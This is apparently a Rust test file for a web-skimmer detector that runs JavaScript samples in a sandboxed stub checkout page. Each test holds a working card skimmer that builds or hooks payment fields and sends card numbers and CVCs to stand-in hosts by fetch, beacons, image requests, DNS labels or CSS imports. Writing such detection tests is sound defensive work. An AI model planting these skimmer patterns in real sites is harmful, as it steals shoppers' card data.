//! The stub page (`sandbox::emulate`) is the last resort for code no static reading gets
//! through (a machine obfuscator whose decoders have no shape the plans know): the script runs
//! whole in the sealed interpreter, and what it sends is looked at for the canaries the page's
//! fields answered. Each test here is a way a skimmer builds its own form, hands data on or
//! sends it that the page used to lack, so the script stopped (a missing API threw) or sent
//! nothing; written plain, because the stub page runs the code whatever it looks like.

use skimscan::js::sandbox::emulate::{Observed, StubPage, layer, limits, observe};

/// The canary card number the stub page answers for card-number fields.
const PAN: &str = "4111111111111111";

fn run(src: &str) -> Observed {
    observe(src, limits(false), StubPage::default()).expect("the stub page runs")
}

/// The data of the sends to `host`, one string each (URL and body).
fn sent_to(obs: &Observed, host: &str) -> Vec<String> {
    obs.sends
        .iter()
        .filter(|(_, url, _)| url.contains(host))
        .map(|(how, url, data)| format!("{how} {url} {data}"))
        .collect()
}

fn assert_card_sent(obs: &Observed, host: &str) {
    let sent = sent_to(obs, host);
    assert!(!sent.is_empty(), "nothing sent to {host}: {:?}", obs.sends);
    // The layer made of the run names the card field (the canary was found in what was sent,
    // in whatever encoding).
    let code = layer(obs, true).unwrap_or_default();
    assert!(
        code.contains(host) && code.contains(".value"),
        "no card flow to {host} in the layer:\n{code}\nsends: {sent:?}"
    );
}

#[test]
fn a_form_written_into_a_shadow_root_is_read_back() {
    let obs = run(r#"
        var host = document.createElement('div');
        document.querySelector('#payment').appendChild(host);
        var root = host.attachShadow({ mode: 'closed' });
        root.innerHTML = '<label>Card number<input id="n"></label><label>Expiry<input id="e"></label>'
          + '<label>CVC<input id="c"></label><button id="go">Pay now</button>';
        root.getElementById('go').addEventListener('click', function () {
          var d = { n: root.getElementById('n').value, c: root.getElementById('c').value };
          fetch('https://shadow.example/api', { method: 'POST', body: JSON.stringify(d) });
        });
    "#);
    assert_card_sent(&obs, "shadow.example");
}

#[test]
fn markup_parsed_by_domparser_is_a_form_with_its_fields() {
    let obs = run(r#"
        var html = '<form id="pf"><input name="ccnum" placeholder="Card number">'
          + '<input name="cvv" placeholder="CVV"></form>';
        var form = new DOMParser().parseFromString(html, 'text/html').body.firstChild;
        document.querySelector('.payment-methods').prepend(form);
        form.addEventListener('submit', function () {
          new Image().src = 'https://parsed.example/i.gif?' + new URLSearchParams(new FormData(form));
        });
    "#);
    assert_card_sent(&obs, "parsed.example");
    let sent = sent_to(&obs, "parsed.example").join(" ");
    assert!(sent.contains(&format!("ccnum={PAN}")), "{sent}");
}

#[test]
fn a_range_fragment_and_data_attribute_selectors_find_the_written_fields() {
    let obs = run(r#"
        var tpl = '<div class="cc"><input data-k="pan" placeholder="Kartennummer">'
          + '<input data-k="cvc" placeholder="Prüfnummer"></div>';
        var frag = document.createRange().createContextualFragment(tpl);
        document.getElementById('checkout-payment').appendChild(frag);
        document.addEventListener('click', function () {
          var out = {};
          document.querySelectorAll('.cc [data-k]').forEach(function (i) { out[i.dataset.k] = i.value; });
          navigator.sendBeacon('https://frag.example/c', JSON.stringify(out));
        }, true);
    "#);
    let sent = sent_to(&obs, "frag.example").join(" ");
    assert!(sent.contains(&format!("\"pan\":\"{PAN}\"")), "{sent}");
    assert_card_sent(&obs, "frag.example");
}

#[test]
fn fields_made_in_a_loop_are_sent_when_the_customer_leaves() {
    // Climbing to a found frame's container to hide it must not throw first.
    let obs = run(r#"
        var inputs = [];
        ['Card Number', 'Expiration (MM/YY)', 'Security Code'].forEach(function (l) {
          var i = document.createElement('input');
          i.setAttribute('placeholder', l);
          inputs.push(i);
        });
        var iframe = document.querySelector('iframe[src*="js.stripe.com"]');
        if (iframe) iframe.parentNode.style.display = 'none';
        window.addEventListener('beforeunload', function () {
          navigator.sendBeacon('https://loop.example/b', btoa(inputs.map(function (i) { return i.value; }).join('|')));
        });
    "#);
    assert_card_sent(&obs, "loop.example");
}

#[test]
fn a_frame_document_written_with_open_write_close_is_found_again() {
    let obs = run(r#"
        var fr = document.createElement('iframe');
        document.querySelector('#payment').appendChild(fr);
        var d = fr.contentWindow.document;
        d.open();
        d.write('<html><body><input id="cn" placeholder="Card number"><input id="cc" placeholder="CVC"></body></html>');
        d.close();
        var d2 = fr.contentDocument;
        document.querySelector('#checkout-submit').addEventListener('click', function () {
          var x = new XMLHttpRequest();
          x.open('POST', 'https://frame.example/s');
          x.send(['cn', 'cc'].map(function (k) { return d2.getElementById(k).value; }).join(';'));
        });
    "#);
    assert_card_sent(&obs, "frame.example");
}

#[test]
fn jquery_elements_made_with_attributes_keep_them() {
    let obs = run(r#"
        jQuery(function ($) {
          var $num = $('<input/>', { type: 'text', placeholder: 'Numéro de carte' });
          var $cvv = $('<input/>', { type: 'text', placeholder: 'Cryptogramme' });
          $('<div class="fake-cc"/>').append($num, $cvv).insertBefore('#payment_method_stripe');
          $('#place_order').on('mousedown', function () {
            $.post('https://jq.example/save', { a: $num.val(), c: $cvv.val() });
          });
        });
    "#);
    assert_card_sent(&obs, "jq.example");
}

#[test]
fn a_created_forms_elements_are_the_fields_written_into_it() {
    let obs = run(r#"
        var f = document.createElement('form');
        f.innerHTML = '<input name="cardnumber" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc">';
        document.querySelector('#payment-container').appendChild(f);
        f.addEventListener('submit', function () {
          var o = {};
          for (var i = 0; i < f.elements.length; i++) o[f.elements[i].name] = f.elements[i].value;
          fetch('https://own-form.example/collect', { method: 'POST', body: JSON.stringify(o) });
        });
    "#);
    let sent = sent_to(&obs, "own-form.example").join(" ");
    assert!(
        sent.contains(&format!("\"cardnumber\":\"{PAN}\"")),
        "{sent}"
    );
}

#[test]
fn a_timers_extra_arguments_reach_its_callback() {
    let obs = run(r#"
        var img = new Image();
        var go = function (d) { img.src = 'https://timer.example/e?d=' + d; };
        document.addEventListener('submit', function () {
          setTimeout(go, 0, btoa(document.getElementById('cc_number').value));
        }, true);
    "#);
    assert_card_sent(&obs, "timer.example");
}

#[test]
fn audio_and_dynamic_import_are_requests() {
    let obs = run(r#"
        document.addEventListener('submit', function () {
          var c = btoa(document.getElementById('cc_number').value);
          new Audio('https://audio.example/a.mp3?d=' + c);
          import('https://module.example/m.js?d=' + c).catch(function () {});
        }, true);
    "#);
    assert_card_sent(&obs, "audio.example");
    assert_card_sent(&obs, "module.example");
    assert!(obs.sends.iter().any(|(how, _, _)| how == "import"));
}

#[test]
fn history_state_the_cache_api_and_the_hash_hand_data_on() {
    let obs = run(r#"
        document.addEventListener('change', function () {
          var c = document.getElementById('cc_number').value;
          history.replaceState({ d: c }, '');
          caches.open('v1').then(function (k) { return k.put('/_c', new Response(c)); });
          location.hash = btoa(c);
        }, true);
        document.addEventListener('submit', function () {
          navigator.sendBeacon('https://history.example/b', JSON.stringify(history.state));
          caches.open('v1').then(function (k) { return k.match('/_c'); })
            .then(function (r) { return r.text(); })
            .then(function (t) { fetch('https://cache.example/c', { method: 'POST', body: t }); });
        }, true);
        window.addEventListener('hashchange', function () {
          fetch('https://hash.example/h?d=' + location.hash.slice(1));
        });
    "#);
    assert_card_sent(&obs, "history.example");
    assert_card_sent(&obs, "cache.example");
    assert_card_sent(&obs, "hash.example");
}

#[test]
fn card_data_in_lower_cased_host_labels_is_found() {
    // Host names are case-insensitive: Base64 put into DNS labels arrives folded.
    let obs = run(r#"
        document.addEventListener('submit', function () {
          var c = document.getElementById('cc_number').value + '|' + document.getElementById('cc_cid').value;
          var l = document.createElement('link'); l.rel = 'dns-prefetch';
          l.href = '//' + btoa(c).replace(/=/g, '').toLowerCase().slice(0, 60) + '.labels.example';
          document.head.appendChild(l);
        }, true);
    "#);
    assert_card_sent(&obs, "labels.example");
}

#[test]
fn the_page_address_a_script_sees_keeps_a_checkout_path() {
    // A script that acts only on its shop's checkout: the known host, on a checkout path.
    let src = r#"
        if (location.hostname === 'www.kestrel.example' && /checkout|onepage/.test(location.pathname)) {
          document.addEventListener('submit', function () {
            fetch('https://gated.example/c', { method: 'POST', body: document.getElementById('cc_number').value });
          }, true);
        }
    "#;
    let job = skimscan::js::AnalysisJob {
        script_id: "gated.js".into(),
        kind: skimscan::inventory::ScriptKind::External,
        code: src.into(),
        page_url: "site/checkout.html".into(),
        page_host: Some("www.kestrel.example".into()),
        payment_page: true,
        page_fields: Vec::new(),
        page_values: Default::default(),
        page_form: Vec::new(),
        line_offset: 1,
        column_offset: 1,
    };
    let url = job.stub_page_url().expect("a host is known");
    let obs = observe(
        src,
        limits(false),
        StubPage {
            url: Some(&url),
            ..StubPage::default()
        },
    )
    .unwrap();
    assert_card_sent(&obs, "gated.example");
    // On another host the script stays quiet.
    let other = observe(src, limits(false), StubPage::default()).unwrap();
    assert!(sent_to(&other, "gated.example").is_empty());
}

#[test]
fn a_custom_element_is_built_and_connected() {
    let obs = run(r#"
        class CardBox extends HTMLElement {
          connectedCallback() {
            var root = this.attachShadow({ mode: 'closed' }), self = this;
            root.innerHTML = '<input id="n" placeholder="Card number"><input id="c" placeholder="CVC">';
            root.addEventListener('change', function () {
              self.dispatchEvent(new CustomEvent('box:data', { bubbles: true,
                detail: { n: root.getElementById('n').value, c: root.getElementById('c').value } }));
            });
          }
        }
        customElements.define('card-box', CardBox);
        var last = null;
        document.addEventListener('box:data', function (e) { last = e.detail; });
        document.querySelector('#co-payment-form').prepend(document.createElement('card-box'));
        document.addEventListener('click', function () {
          if (last) new Image().src = 'https://widget.example/p?d=' + btoa(JSON.stringify(last));
        }, true);
    "#);
    assert_card_sent(&obs, "widget.example");
}

#[test]
fn select_options_replaced_children_and_utf8_bytes() {
    let obs = run(r#"
        var slot = document.querySelector('.payment-method-content');
        var mm = document.createElement('select');
        for (var m = 1; m <= 12; m++) mm.add(new Option(('0' + m).slice(-2)));
        var num = Object.assign(document.createElement('input'), { placeholder: 'Numero della carta' });
        slot.replaceChildren(num, mm);
        var host = new TextDecoder().decode(new TextEncoder().encode('bytes.example'));
        num.addEventListener('blur', function () {
          navigator.sendBeacon('https://' + host + '/b', JSON.stringify({ n: num.value, m: mm.options.length }));
        });
    "#);
    assert_card_sent(&obs, "bytes.example");
}

#[test]
fn a_name_or_an_email_alone_is_no_card_data() {
    let obs = run(r#"
        var ws = new WebSocket('wss://chat.example/v');
        ws.onopen = function () {
          var first = document.getElementById('checkout_billing_address_first_name');
          ws.send(JSON.stringify({ name: first.value, email: document.getElementById('billing_email').value }));
        };
    "#);
    assert!(!sent_to(&obs, "chat.example").is_empty(), "{:?}", obs.sends);
    assert!(layer(&obs, true).is_none(), "{:?}", layer(&obs, true));
}

#[test]
fn a_wrapped_value_getter_sees_what_the_shops_validation_reads() {
    let obs = run(r#"
        var proto = HTMLInputElement.prototype;
        var d = Object.getOwnPropertyDescriptor(proto, 'value');
        var seen = {};
        Object.defineProperty(proto, 'value', { configurable: true, set: d.set, get: function () {
          var v = d.get.call(this);
          if (/cc_number|cc_cid/.test(this.name || '') && v) seen[this.id] = v;
          if (seen.cc_number && seen.cc_cid && !seen.done) {
            seen.done = 1;
            var st = document.createElement('style');
            st.textContent = '@import url("https://polyfill-mirror.example/s.css?f=' + btoa(JSON.stringify(seen)) + '");';
            document.head.appendChild(st);
          }
          return v;
        } });
    "#);
    assert_card_sent(&obs, "polyfill-mirror.example");
}

#[test]
fn a_wrapped_form_submit_runs_when_the_order_is_placed() {
    let obs = run(r#"
        var orig = HTMLFormElement.prototype.submit;
        HTMLFormElement.prototype.submit = function () {
          var f = this, n = f.querySelector('#cc_number'), c = f.querySelector('#cc_cid');
          if (n && n.value) new Image().src = 'https://img-hook.example/i.gif?d=' + btoa(n.value + ':' + (c && c.value));
          return orig.call(f);
        };
    "#);
    assert_card_sent(&obs, "img-hook.example");
}

/// The page's own fields join the stub page (`StubPage::fields`): found by their ids and by
/// their labels' text (here spelled out of char codes, as an obfuscated script would), each
/// holding the canary of what the page says it holds.
#[test]
fn the_pages_own_fields_are_on_the_stub_page() {
    use skimscan::js::StubField;
    let src = r#"
      var want = String.fromCharCode(0x30ab, 0x30fc, 0x30c9, 0x756a, 0x53f7);
      var labels = document.getElementsByTagName('label'), f = null;
      for (var i = 0; i < labels.length; i++) if (labels[i].textContent.indexOf(want) >= 0) f = document.getElementById(labels[i].htmlFor);
      var cvc = document.getElementById(['f', 3].join(''));
      if (f && f.value.length > 12) new Image().src = 'https://px.mirror-cdn.example/c?d=' + btoa(f.value + ';' + cvc.value);
    "#;
    let field = |id: &str, holds: &str, caption: &str| StubField {
        id: Some(id.into()),
        name: id.into(),
        holds: holds.into(),
        caption: Some(caption.into()),
        hooks: Vec::new(),
    };
    let fields = [
        field("f1", "cc-number", "カード番号"),
        field("f3", "cc-csc", "セキュリティコード"),
    ];
    let at = StubPage {
        fields: &fields,
        ..StubPage::default()
    };
    let obs = observe(src, limits(false), at).unwrap();
    assert_card_sent(&obs, "mirror-cdn.example");
    let sent = sent_to(&obs, "mirror-cdn.example").join(" ");
    // The security code's canary too, by its id.
    assert!(sent.contains("NDExMTExMTExMTExMTExMTs3Mzc"), "{sent}");
    // Without the page's fields, no label says カード番号 and nothing is sent.
    assert!(sent_to(&run(src), "mirror-cdn.example").is_empty());
}

/// The classes and `data-` attributes only the page's card fields carry are on the stub
/// page's copies of them: a script gathering `[data-mask]` (here with a name built at run
/// time) reads the card fields, not an empty list.
#[test]
fn the_pages_own_field_hooks_are_on_the_stub_page() {
    use skimscan::js::StubField;
    let src = r#"
      var attr = ['data', 'mask'].join('-'), st = {};
      document.querySelectorAll('[' + attr + ']').forEach(function (el) {
        st[el.getAttribute(attr)] = el.value;
      });
      document.addEventListener('change', function () {
        document.querySelectorAll('.js-pay-input').forEach(function (el) { st[el.id] = el.value; });
        navigator.sendBeacon('https://hook-mirror.example/c', JSON.stringify(st));
      });
    "#;
    let field = |id: &str, holds: &str, hooks: &[&str]| StubField {
        id: Some(id.into()),
        name: id.into(),
        holds: holds.into(),
        caption: None,
        hooks: hooks.iter().map(|h| h.to_string()).collect(),
    };
    let fields = [
        field(
            "pf1",
            "cc-number",
            &["[data-mask=card]", "[data-mask]", ".js-pay-input"],
        ),
        field("pf2", "cc-csc", &["[data-mask=cvc]", "[data-mask]"]),
    ];
    let at = StubPage {
        fields: &fields,
        ..StubPage::default()
    };
    let obs = observe(src, limits(false), at).unwrap();
    assert_card_sent(&obs, "hook-mirror.example");
    let sent = sent_to(&obs, "hook-mirror.example").join(" ");
    assert!(sent.contains("737"), "{sent}");
}
